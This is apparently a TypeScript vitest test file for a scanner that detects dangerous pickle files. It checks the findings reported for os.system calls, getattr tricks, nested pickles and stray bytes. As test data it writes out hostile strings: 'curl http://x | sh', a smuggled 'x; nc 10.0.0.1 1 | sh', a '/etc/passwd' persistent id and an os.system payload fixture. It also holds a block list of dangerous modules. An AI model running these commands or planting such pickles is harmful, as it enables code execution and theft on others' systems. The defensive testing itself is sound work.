import { describe, expect, it } from "vitest";
import { assemble, bin, call, global, PAYLOAD, type Piece, PROTO4, STOP, str } from "../../../test/fixtures/pickle/assemble.ts";
import { bytesOf } from "../../bytes.ts";
import type { Finding } from "../../finding.ts";
import { parsePickle } from "../../formats/pickle/parse.ts";
import { Budget, DEFAULT_LIMITS } from "../../limits.ts";
import { pickleExaminer } from "./examine.ts";
import type { Judge } from "./globals.ts";

/** A small scale of its own, so that the rules are tested apart from the lists of names. */
const ALLOWED = new Set([
  "collections.OrderedDict",
  "numpy.ndarray",
  "torch.FloatStorage",
  "torch._utils._rebuild_tensor_v2",
  "sk.KDTree",
  "_codecs.encode",
  "joblib.numpy_pickle.NumpyArrayWrapper",
]);
const judge: Judge = {
  judgeGlobal({ module, name }, { called, shellLikeLiteral }) {
    const canonical = `${module}.${name}`;
    if (ALLOWED.has(canonical)) return { standing: "allowed", severity: null, canonical, reason: "plain data" };
    if (module === "cloudpickle.cloudpickle") return { standing: "code-by-value", severity: "medium", canonical, reason: "rebuilds code" };
    if (["os", "builtins", "importlib", "pickle", "functools", "operator"].includes(module))
      return { standing: "dangerous", severity: "high", canonical, reason: "no model needs it", effect: "does harm" };
    return { standing: "unknown", severity: called && shellLikeLiteral ? "high" : "medium", canonical, reason: "a module that no list knows" };
  },
  isSafeGetattr: ({ module, name }, attribute, { called }) => !called && module === "sk" && name === "KDTree" && attribute === "valid_metrics",
};

async function examine(bytes: Uint8Array, containers: readonly string[] = []): Promise<readonly Finding[]> {
  const parsed = await parsePickle(bytesOf(bytes), new Budget(DEFAULT_LIMITS));
  return pickleExaminer(judge).examine(parsed, { path: "m.pkl", name: "m.pkl", size: bytes.length, containers }).findings;
}
const brief = (findings: readonly Finding[]): string[] => findings.map(({ rule, severity, title }) => `${severity} ${rule}: ${title}`);
const stream = (...pieces: readonly Piece[]): Buffer => assemble(...pieces, "STOP");

describe("one finding for each distinct global", () => {
  it("names it with its expression and effect", async () => {
    const [finding, ...more] = await examine(stream(PROTO4, PAYLOAD, PAYLOAD, "POP"));
    expect(more).toEqual([]);
    expect(finding).toMatchObject({
      rule: "pickle-callable",
      severity: "high",
      where: { path: "m.pkl", offset: 21 },
      title: "Loading this calls os.system, which does harm",
      proof: { expression: "os.system('true')", called: true, opcode: "REDUCE", origin: "GLOBAL", stream: 0 },
    });
    expect(finding?.explanation).toContain("The stream says: os.system('true').");
  });

  it("has nothing to say of allowed ones, and of dangerous words in data", async () => {
    expect(await examine(stream(PROTO4, call("collections", "OrderedDict"), str("os.system('id')"), "TUPLE2"))).toEqual([]);
  });

  it("finds a dangerous argument of an allowed callable", async () => {
    expect(brief(await examine(stream(call("torch._utils", "_rebuild_tensor_v2", global("os", "system")))))).toEqual([
      "high pickle-callable: Loading this imports os.system, which does harm",
    ]);
  });

  it.each([
    ["a word", "value", "medium"],
    ["a command", "curl http://x | sh", "high"],
    ["a command behind another word", "x; nc 10.0.0.1 1 | sh", "high"],
    ["code", "__import__('os').getcwd()", "high"],
    ["a path that a loader takes", "/tmp/x.so", "high"],
    ["an address", "https://example.org/", "high"],
    ["a sentence", "the quick brown fox", "medium"],
    ["a shape in words", "float32; little endian", "medium"],
  ])("judges an unknown callable by its literal: %s", async (_name, literal, severity) => {
    expect((await examine(stream(call("mine", "f", str(literal)))))[0]?.severity).toBe(severity);
  });

  it("calls code by value by its name", async () => {
    expect(brief(await examine(stream(call("cloudpickle.cloudpickle", "_builtin_type", str("CodeType")), "EMPTY_TUPLE", "REDUCE")))).toEqual([
      "medium pickle-code-by-value: Loading this rebuilds code by cloudpickle.cloudpickle._builtin_type",
    ]);
  });

  it("allows TorchScript classes only in a TorchScript archive", async () => {
    const bytes = stream(global("__torch__.model", "Net"));
    expect(await examine(bytes, ["torchscript"])).toEqual([]);
    expect(brief(await examine(bytes, ["torch-zip"]))).toEqual(["medium pickle-callable: Loading this imports __torch__.model.Net"]);
  });
});

describe("getattr", () => {
  const read = (target: Piece, attribute: string) => call("builtins", "getattr", target, str(attribute));

  it("is nothing to report where every use is harmless", async () => {
    expect(await examine(stream(read(global("sk", "KDTree"), "valid_metrics")))).toEqual([]);
  });

  it("is reported with what it finds as soon as one use is not", async () => {
    const bytes = stream(read(global("sk", "KDTree"), "valid_metrics"), "POP", read(call("importlib", "import_module", str("os")), "system"));
    const findings = brief(await examine(bytes));
    expect(findings).toContain("high pickle-callable: Loading this calls builtins.getattr, which does harm");
    expect(findings).toContain("high pickle-callable: Loading this imports os.system, which does harm");
  });

  it("is reported where it is only handed on", async () => {
    expect(await examine(stream(global("builtins", "getattr")))).toHaveLength(1);
  });

  it.each([
    ["to something that may call it", call("collections", "OrderedDict", global("builtins", "getattr"))],
    ["from the memo", assemble(global("builtins", "getattr"), ["BINPUT", 0])],
  ])("is reported where it is handed on beside a harmless use %s", async (_name, handed) => {
    const findings = brief(await examine(stream(read(global("sk", "KDTree"), "valid_metrics"), "POP", handed)));
    expect(findings).toEqual(["high pickle-callable: Loading this calls builtins.getattr, which does harm"]);
  });

  it("is nothing to report where a harmless use takes it from the memo", async () => {
    const again = assemble(["BINGET", 0], "MARK", global("sk", "KDTree"), str("valid_metrics"), "TUPLE", "REDUCE");
    expect(await examine(stream(global("builtins", "getattr"), ["BINPUT", 0], "POP", again, "POP", again))).toHaveLength(1);
    const first = assemble(global("builtins", "getattr"), ["BINPUT", 0], "MARK", global("sk", "KDTree"), str("valid_metrics"), "TUPLE", "REDUCE");
    expect(await examine(stream(first, "POP", again))).toEqual([]);
  });

  it("does not make a method harmless that is called at once", async () => {
    const findings = brief(await examine(stream(read(global("sk", "KDTree"), "valid_metrics"), "EMPTY_TUPLE", "REDUCE")));
    expect(findings).toEqual(["medium pickle-callable: Loading this calls sk.KDTree.valid_metrics"]);
  });
});

describe("attributes that an instance brings along", () => {
  const built = (name: string) => stream(call("collections", "OrderedDict"), "EMPTY_DICT", str(name), "NONE", "SETITEM", "BUILD");

  it.each(["__setstate__", "__class__", "__array_interface__", "__array_ufunc__"])("reports %s", async (name) => {
    expect(brief(await examine(built(name)))).toEqual([
      `high pickle-build: Loading this sets ${name} of an object, which Python or numpy then acts on`,
    ]);
  });

  it.each(["__doc__", "__array_priority__", "array_interface"])("has nothing to say of %s", async (name) => {
    expect(await examine(built(name))).toEqual([]);
  });
});

describe("bytes that are carried as text", () => {
  it.each([
    ["latin1", []],
    ["zlib_codec", ["medium pickle-codec: Loading this calls _codecs.encode with the codec 'zlib_codec'"]],
  ])("in %s", async (codec, expected) => {
    expect(brief(await examine(stream(call("_codecs", "encode", str("text"), str(codec)))))).toEqual(expected);
  });
});

describe("type", () => {
  const type = (arg: Piece) => call("builtins", "type", arg);

  it.each([
    ["None", type("NONE")],
    ["Ellipsis", type(global("ell", "Ellipsis"))],
  ])("is nothing to report of %s, if that is the constant", async (name, bytes) => {
    expect(await examine(stream(bytes))).toHaveLength(name === "None" ? 0 : 2);
  });

  it.each([
    ["of anything else", type("EMPTY_TUPLE")],
    ["of three arguments", call("builtins", "type", "NONE", "NONE", "NONE")],
    ["that is called by what it was handed to", assemble(call("functools", "partial", global("builtins", "type")), "NONE", "TUPLE1", "REDUCE")],
    ["that is handed on as well", assemble(type("NONE"), "POP", global("builtins", "type"))],
  ])("is reported %s", async (_name, bytes) => {
    expect(brief(await examine(stream(bytes)))).toContain("high pickle-callable: Loading this calls builtins.type, which does harm");
  });
});

describe("calls without a name", () => {
  it.each([
    ["what an allowed callable returned", stream(call("collections", "OrderedDict"), "EMPTY_TUPLE", "REDUCE"), "medium"],
    ["a memo entry that is not there", stream(["BINGET", 9], "EMPTY_TUPLE", "REDUCE"), "high"],
    ["a text", stream(str("x"), "EMPTY_TUPLE", "REDUCE"), "medium"],
  ])("reports a call of %s", async (_name, bytes, severity) => {
    expect((await examine(bytes)).find(({ rule }) => rule === "pickle-computed-callable")?.severity).toBe(severity);
  });

  it("reports a global without a readable name", async () => {
    expect(brief(await examine(stream("NONE", str("system"), "STACK_GLOBAL")))).toEqual([
      "high pickle-unresolved-global: A global has no readable name: STACK_GLOBAL of None.'system', which are not two strings",
    ]);
  });
});

describe("state, extensions and persistent ids", () => {
  const ordered = call("collections", "OrderedDict");
  const state = (name: string) => assemble("EMPTY_DICT", str(name), "NONE", "SETITEM");

  it.each([
    ["an ordinary attribute of an instance", stream(ordered, state("weight"), "BUILD"), []],
    ["an annotation that typing leaves behind", stream(ordered, state("__orig_class__"), "BUILD"), []],
    ["__class__ of an instance", stream(ordered, state("__class__"), "BUILD"), ["high"]],
    ["an attribute of a class", stream(global("numpy", "ndarray"), "NONE", state("x"), "TUPLE2", "BUILD"), ["high"]],
    ["the state of a list", stream("EMPTY_LIST", state("x"), "BUILD"), ["medium"]],
  ])("judges BUILD of %s", async (_name, bytes, severities) => {
    expect((await examine(bytes)).map(({ severity }) => severity)).toEqual(severities);
  });

  it("reports extension codes always, called ones as high", async () => {
    expect(brief(await examine(stream(["EXT1", 5])))).toEqual([
      "medium pickle-extension: Loading this takes whatever is registered under extension code 5",
    ]);
    expect(brief(await examine(stream(["EXT1", 5], "EMPTY_TUPLE", "REDUCE")))).toEqual([
      "high pickle-extension: Loading this calls whatever is registered under extension code 5",
    ]);
  });

  it("takes torch storages as they are, and reports foreign persistent ids", async () => {
    const storage = assemble("MARK", str("storage"), global("torch", "FloatStorage"), str("0"), str("cpu"), ["BININT1", 4], "TUPLE", "BINPERSID");
    expect(await examine(stream(storage))).toEqual([]);
    expect(brief(await examine(stream(["PERSID", "file:///etc/passwd\n"])))).toEqual([
      "medium pickle-persistent-id: A persistent id is no tensor storage",
    ]);
  });

  it("takes source text in a persistent id for text only where the format writes it", async () => {
    const source = assemble(
      "MARK",
      str("module"),
      global("numpy", "ndarray"),
      str("a.py"),
      str("import os"),
      "TUPLE",
      "BINPERSID",
      "EMPTY_TUPLE",
      "NEWOBJ",
    );
    expect(await examine(stream(source), ["torch-tar"])).toEqual([]);
    expect((await examine(stream(source))).map(({ rule }) => rule)).toEqual(["pickle-persistent-id"]);
  });
});

describe("pickles in values", () => {
  const inner = Buffer.concat([PROTO4, PAYLOAD, STOP]);

  it("is a notice for a harmless one", async () => {
    const plain = assemble(PROTO4, "EMPTY_LIST", "MARK", ["BININT1", 1], "APPENDS", "STOP");
    expect((await examine(stream(bin(plain)))).map(({ severity }) => severity)).toEqual(["info"]);
  });

  it("is medium for a dangerous one that nothing decodes", async () => {
    expect(brief(await examine(stream(str(inner.toString("base64")))))).toEqual([
      "medium pickle-nested: A value holds a pickle (base64) that would do os.system('true')",
    ]);
  });

  it("is high for one that is decoded, and the call shows what is inside", async () => {
    const findings = await examine(stream(call("pickle", "loads", bin(inner))));
    expect(findings.map(({ rule, severity }) => [rule, severity])).toEqual([
      ["pickle-callable", "high"],
      ["pickle-nested", "high"],
    ]);
    expect(findings[0]?.explanation).toContain("The pickle inside says: os.system('true').");
  });
});

describe("layout", () => {
  const plain = assemble(PROTO4, "EMPTY_LIST", "STOP");

  it.each([
    ["one stream", plain, []],
    ["streams one after another", Buffer.concat([plain, plain]), ["info pickle-streams"]],
    ["zeros behind STOP", Buffer.concat([plain, Buffer.alloc(9)]), ["info pickle-unowned-bytes"]],
    ["the end of a line behind STOP", Buffer.concat([plain, Buffer.from("\r\n")]), ["info pickle-unowned-bytes"]],
    ["white space that goes on behind STOP", Buffer.concat([plain, Buffer.alloc(17, " ")]), ["medium pickle-unowned-bytes"]],
    ["bytes behind STOP", Buffer.concat([plain, Buffer.from("\x01\x02data")]), ["medium pickle-unowned-bytes"]],
    [
      "a stream behind padding",
      Buffer.concat([plain, Buffer.alloc(9), PROTO4, call("collections", "OrderedDict"), STOP]),
      ["medium pickle-streams", "info pickle-unowned-bytes"],
    ],
    ["PROTO 9", stream(["PROTO", 9], "NONE"), ["medium pickle-structure"]],
  ])("judges %s", async (_name, bytes, expected) => {
    expect((await examine(bytes)).map(({ rule, severity }) => `${severity} ${rule}`)).toEqual(expected);
  });
});
